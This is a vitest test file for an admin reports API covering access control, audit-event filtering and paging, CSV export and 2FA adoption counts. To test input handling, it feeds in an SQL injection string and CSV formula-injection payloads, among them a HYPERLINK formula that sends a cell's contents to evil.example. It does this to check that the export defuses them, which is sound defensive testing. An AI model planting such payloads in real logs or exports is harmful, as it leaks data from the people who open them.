import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { apiClient } from '../support/client.js';
import { storeKinds } from '../support/databases.js';
import { type TestServer, testServer } from '../support/test-server.js';
import { pendingSignIn } from '../support/two-factor.js';
import {
  giveMethod,
  parseCsv,
  pastEvent,
  signedInAs,
  signInAgainWithSecondFactor,
} from './report-fixtures.js';

const kinds = await storeKinds();

type AuditPage = {
  events: Array<{ id: string; type: string; email: string | null; userAgent: string; at: string }>;
  nextCursor: string | null;
};

describe.each(kinds)('operator reports API on %s', (kind) => {
  let server: TestServer;
  beforeEach(async () => {
    server = await testServer({ kind });
  });
  afterEach(() => server.close());

  it('documents both reports in the OpenAPI document', async () => {
    const doc = (await (await apiClient(server.app).get('/api/v1/openapi.json')).json()) as {
      paths: Record<string, { get?: { responses?: Record<string, { content?: object }> } }>;
    };
    expect(Object.keys(doc.paths)).toEqual(
      expect.arrayContaining(['/admin/audit-events', '/admin/adoption']),
    );
    expect(Object.keys(doc.paths['/admin/audit-events']?.get?.responses?.['200']?.content ?? {})).toEqual([
      'application/json',
      'text/csv',
    ]);
  });

  describe('who may read them', () => {
    const paths = [
      '/api/v1/admin/audit-events',
      '/api/v1/admin/audit-events?format=csv',
      '/api/v1/admin/adoption',
    ];

    it.each(paths)('%s: signed out 401, plain user and support 403, operator 200', async (path) => {
      const { client: plain } = await signedInAs(server, 'plain@example.com');
      const { client: support } = await signedInAs(server, 'support@example.com', 'support');
      const { client: operator } = await signedInAs(server, 'operator@example.com', 'operator');
      const anonymous = apiClient(server.app);
      const answers = await Promise.all([anonymous, plain, support].map((c) => c.get(path)));
      expect(answers.map((a) => a.status)).toEqual([401, 403, 403]);
      for (const answer of answers) {
        expect(answer.headers.get('content-type')).toContain('application/problem+json');
        expect(await answer.text()).not.toContain('operator@example.com');
      }
      expect((await operator.get(path)).status).toBe(200);
    });

    it('refuses an operator who still owes the second factor', async () => {
      const { user } = await signedInAs(server, 'operator@example.com', 'operator');
      await giveMethod(server, user.id, 'totp');
      const { client } = await pendingSignIn(server, 'operator@example.com');
      expect((await client.get('/api/v1/admin/audit-events')).status).toBe(401);
      expect((await client.get('/api/v1/admin/adoption')).status).toBe(401);
    });
  });

  describe('audit events', () => {
    it('filters by user, type, time range and organization', async () => {
      const { client, user: operator } = await signedInAs(server, 'operator@example.com', 'operator');
      const { user: ann } = await signedInAs(server, 'ann@example.com');
      const { user: bob } = await signedInAs(server, 'bob@example.com');
      const e1 = await pastEvent(server, {
        userId: ann.id,
        type: 'sign_in_failed',
        at: '2026-10-01T08:00:00Z',
      });
      const e2 = await pastEvent(server, {
        userId: ann.id,
        type: 'password_changed',
        at: '2026-10-02T08:00:00Z',
      });
      const e3 = await pastEvent(server, {
        userId: bob.id,
        type: 'sign_in_failed',
        at: '2026-10-03T08:00:00Z',
      });
      await server.deps.store.organizations.create(
        { id: 'org-acme', name: 'Acme', createdAt: server.clock.now() },
        { userId: bob.id, joinedAt: server.clock.now() },
      );
      const ids = async (query: string) => {
        const answer = await client.get(`/api/v1/admin/audit-events?${query}`);
        expect(answer.status).toBe(200);
        return ((await answer.json()) as AuditPage).events.map((e) => e.id);
      };
      const october = 'from=2026-10-01T00:00:00Z&until=2026-11-01T00:00:00Z';
      expect(await ids(october)).toEqual([e3, e2, e1]);
      expect(await ids(`${october}&email=${encodeURIComponent(' ANN@example.com ')}`)).toEqual([e2, e1]);
      expect(await ids(`${october}&type=sign_in_failed`)).toEqual([e3, e1]);
      expect(await ids(`${october}&type=sign_in_failed,password_changed&email=ann@example.com`)).toEqual([
        e2,
        e1,
      ]);
      expect(await ids('from=2026-10-02T08:00:00Z&until=2026-10-03T08:00:00Z')).toEqual([e2]);
      expect(await ids(`${october}&organization=org-acme`)).toEqual([e3]);
      expect(await ids('email=nobody@example.com')).toEqual([]);
      // Today's sign-ins are there too, with the address of whoever signed in.
      const today = (await (
        await client.get('/api/v1/admin/audit-events?type=sign_in_succeeded')
      ).json()) as AuditPage;
      expect(today.events.map((e) => e.email).sort()).toEqual([
        'ann@example.com',
        'bob@example.com',
        operator.email,
      ]);
    });

    it('pages with a cursor, newest first, and every event exactly once', async () => {
      const { client, user } = await signedInAs(server, 'operator@example.com', 'operator');
      const made: string[] = [];
      for (let i = 0; i < 7; i++) {
        // Pairs share a timestamp: the id breaks the tie.
        made.push(
          await pastEvent(server, {
            userId: user.id,
            type: 'method_added',
            at: `2026-10-0${1 + (i >> 1)}T08:00:00Z`,
          }),
        );
      }
      const seen: string[] = [];
      let cursor: string | null = null;
      let pages = 0;
      do {
        const answer = await client.get(
          `/api/v1/admin/audit-events?type=method_added&limit=3${cursor ? `&cursor=${cursor}` : ''}`,
        );
        const page = (await answer.json()) as AuditPage;
        seen.push(...page.events.map((e) => e.id));
        cursor = page.nextCursor;
        pages++;
      } while (cursor && pages < 10);
      expect(pages).toBe(3);
      expect([...seen].sort()).toEqual([...made].sort());
      expect(new Set(seen).size).toBe(7);
    });

    it.each([
      ['a cursor it did not give out', 'cursor=bm90LWEtY3Vyc29y'],
      ['a range that ends before it starts', 'from=2026-10-02T00:00:00Z&until=2026-10-01T00:00:00Z'],
      ['a date that is not one', 'from=yesterday'],
      ['an event type with SQL in it', "type=x'%20or%201=1--"],
      ['a page too large', 'limit=100000'],
      ['an unknown format', 'format=xlsx'],
    ])('answers 400 problem+json to %s', async (_, query) => {
      const { client } = await signedInAs(server, 'operator@example.com', 'operator');
      const answer = await client.get(`/api/v1/admin/audit-events?${query}`);
      expect(answer.status).toBe(400);
      expect(answer.headers.get('content-type')).toContain('application/problem+json');
    });
  });

  describe('CSV export', () => {
    it('quotes per RFC 4180 and defuses formulas an attacker put in the log', async () => {
      const { client } = await signedInAs(server, 'operator@example.com', 'operator');
      await signedInAs(server, 'ann@example.com');
      // The attacker controls the User-Agent of a failed sign-in, and so a cell of the export.
      const attacker = apiClient(server.app, { userAgent: '=HYPERLINK("http://evil.example/?"&A1,"Click")' });
      expect(
        (await attacker.post('/api/v1/session', { email: 'ann@example.com', password: 'wrong guess' }))
          .status,
      ).toBe(401);
      const tab = apiClient(server.app, { userAgent: '@SUM(1+1)*cmd' });
      await tab.post('/api/v1/session', { email: 'ann@example.com', password: 'another guess' });

      const answer = await client.get('/api/v1/admin/audit-events?format=csv&type=sign_in_failed');
      expect(answer.status).toBe(200);
      expect(answer.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
      expect(answer.headers.get('content-disposition')).toBe(
        'attachment; filename="audit-log-2026-11-23.csv"',
      );
      expect(answer.headers.get('cache-control')).toBe('no-store');
      const text = await answer.text();
      const rows = parseCsv(text);
      expect(rows[0]).toEqual(['at', 'type', 'email', 'user_id', 'ip', 'user_agent', 'detail']);
      expect(rows).toHaveLength(3);
      const agents = rows.slice(1).map((r) => r[5]);
      expect(agents).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"Click")');
      expect(agents).toContain("'@SUM(1+1)*cmd");
      for (const row of rows.slice(1)) {
        expect(row[1]).toBe('sign_in_failed');
        expect(row[2]).toBe('ann@example.com');
        for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
      // The raw bytes carry the quote doubling a spreadsheet expects.
      expect(text).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"');
    });

    it('exports every matching event across batches, and records who exported', async () => {
      const { client, user } = await signedInAs(server, 'operator@example.com', 'operator');
      const when = (i: number) => new Date(Date.parse('2026-09-01T00:00:00Z') + i * 60_000).toISOString();
      for (let i = 0; i < 1234; i++)
        await pastEvent(server, { userId: user.id, type: 'method_renamed', at: when(i) });
      const answer = await client.get('/api/v1/admin/audit-events?format=csv&type=method_renamed');
      const rows = parseCsv(await answer.text());
      expect(rows).toHaveLength(1235);
      expect(rows[1]?.[0]).toBe(when(1233));
      expect(rows.at(-1)?.[0]).toBe(when(0));
      expect(new Set(rows.map((r) => r[0])).size).toBe(1235);

      const trail = (await (
        await client.get('/api/v1/admin/audit-events?type=audit_log_exported')
      ).json()) as AuditPage;
      expect(trail.events).toHaveLength(1);
      expect(trail.events[0]?.email).toBe('operator@example.com');
    });
  });

  describe('adoption', () => {
    it('counts a seeded set of users, by method and by organization', async () => {
      const { client, user: operator } = await signedInAs(server, 'operator@example.com', 'operator');
      const { user: ann } = await signedInAs(server, 'ann@example.com');
      const { user: bob } = await signedInAs(server, 'bob@example.com');
      const { user: cy } = await signedInAs(server, 'cy@example.com');
      const { user: dee } = await signedInAs(server, 'dee@example.com');
      await giveMethod(server, ann.id, 'totp');
      await giveMethod(server, ann.id, 'sms');
      await giveMethod(server, bob.id, 'email');
      await giveMethod(server, cy.id, 'totp', 'pending' as 'active');
      await giveMethod(server, dee.id, 'totp');
      await server.deps.store.users.setDisabled(dee.id, server.clock.now());
      const now = server.clock.now();
      await server.deps.store.organizations.create(
        { id: 'o-acme', name: 'Acme', createdAt: now },
        { userId: ann.id, joinedAt: now },
      );
      await server.deps.store.organizations.addMember({
        organizationId: 'o-acme',
        userId: cy.id,
        role: 'member',
        joinedAt: now,
      });

      const policy = {
        timeZone: 'Europe/Amsterdam',
        backupRequired: false,
        recoveryCodesCountAsBackup: true,
        maxRememberDeviceDays: null,
        sudoMinutes: null,
        updatedAt: now,
      };
      await server.deps.store.policies.put({
        ...policy,
        scope: 'global',
        requiredFrom: new Date('2026-12-23T09:00:00Z'),
        allowedMethods: null,
      });
      await server.deps.store.policies.put({
        ...policy,
        scope: 'o-acme',
        requiredFrom: new Date('2026-12-01T08:00:00Z'),
        allowedMethods: ['sms'],
      });
      // A deadline that has passed is no longer "ahead".
      await server.deps.store.policies.put({
        ...policy,
        scope: 'o-past',
        requiredFrom: new Date('2026-01-01T00:00:00Z'),
        allowedMethods: null,
      });

      const answer = await client.get('/api/v1/admin/adoption?days=7');
      expect(answer.status).toBe(200);
      const body = (await answer.json()) as Record<string, unknown>;
      // Five accounts are active: the operator, ann, bob, cy (pending only) and not dee (disabled).
      // The operator has an authenticator of their own: staff need 2FA for the console.
      expect(body).toMatchObject({ users: 4, withTwoFactor: 3, percent: 75 });
      expect(body.byMethod).toEqual([
        { type: 'totp', users: 2, percent: 50 },
        { type: 'email', users: 1, percent: 25 },
        { type: 'sms', users: 1, percent: 25 },
      ]);
      expect(body.organizations).toEqual([
        { id: 'o-acme', name: 'Acme', users: 2, withTwoFactor: 1, percent: 50 },
      ]);
      expect(body.history).toEqual([
        {
          day: '2026-11-23',
          users: 4,
          withTwoFactor: 3,
          percent: 75,
          byMethod: { email: 1, sms: 1, totp: 2 },
        },
      ]);
      // Acme's members are ann (sms: ready) and cy (nothing active); everyone lacking 2FA counts globally.
      expect(body.deadlines).toEqual([
        {
          organization: { id: 'o-acme', name: 'Acme' },
          requiredFrom: '2026-12-01T08:00:00.000Z',
          timeZone: 'Europe/Amsterdam',
          daysLeft: 8,
          notReady: 1,
        },
        {
          organization: null,
          requiredFrom: '2026-12-23T09:00:00.000Z',
          timeZone: 'Europe/Amsterdam',
          daysLeft: 30,
          notReady: 1,
        },
      ]);
      expect(operator.staffRole).toBeNull();
    });

    it('takes one snapshot per day, even when the dashboard is opened twice at once', async () => {
      const { client } = await signedInAs(server, 'operator@example.com', 'operator');
      const { client: other } = await signedInAs(server, 'operator2@example.com', 'operator');
      const answers = await Promise.all([
        client.get('/api/v1/admin/adoption'),
        other.get('/api/v1/admin/adoption'),
      ]);
      expect(answers.map((a) => a.status)).toEqual([200, 200]);
      expect(await server.deps.store.adoption.history('2026-01-01', '2026-12-31')).toHaveLength(1);

      // Later that day a new user arrives: today's figure stays as taken.
      await signedInAs(server, 'late@example.com');
      await client.get('/api/v1/admin/adoption');
      let history = await server.deps.store.adoption.history('2026-01-01', '2026-12-31');
      expect(history.map((s) => [s.day, s.users])).toEqual([['2026-11-23', 2]]);

      server.clock.advance(24 * 60 * 60 * 1000);
      // A day later the old sessions have ended; the operator signs in again, second step and all.
      await signInAgainWithSecondFactor(server, client, 'operator@example.com');
      expect((await client.get('/api/v1/admin/adoption')).status).toBe(200);
      history = await server.deps.store.adoption.history('2026-01-01', '2026-12-31');
      expect(history.map((s) => [s.day, s.users])).toEqual([
        ['2026-11-23', 2],
        ['2026-11-24', 3],
      ]);
    });
  });
});
